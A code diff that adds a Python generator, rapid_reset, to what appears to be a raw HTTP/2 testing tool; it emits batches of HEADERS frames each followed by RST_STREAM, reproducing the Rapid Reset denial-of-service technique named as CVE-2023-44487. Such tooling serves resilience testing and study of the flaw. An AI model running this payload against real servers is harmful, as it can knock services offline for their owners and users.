@@ -18,7 +18,7 @@ import subprocess
 import sys
 import time
 import urllib.request
-from collections.abc import Callable, Iterable
+from collections.abc import Callable, Iterable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any, Final
@@ -339,6 +339,20 @@ class RawH2:
     def close(self) -> None:
         with contextlib.suppress(OSError):
             self.sock.close()
+
+
+def rapid_reset(pairs: int, batch: int = 500) -> Iterator[bytes]:
+    """`pairs` Observe HEADERS each followed by its RST_STREAM (CVE-2023-44487), `batch` pairs
+    to a chunk of bytes."""
+    head = call_head(1)
+    sid = 1
+    for _ in range(pairs // batch):
+        chunk = []
+        for _ in range(batch):
+            chunk.append(head[:5] + sid.to_bytes(4, "big") + head[9:])
+            chunk.append(frame(RST_STREAM, 0, sid, (8).to_bytes(4, "big")))
+            sid += 2
+        yield b"".join(chunk)
 
 
 def any_of(leaves: int) -> bytes:
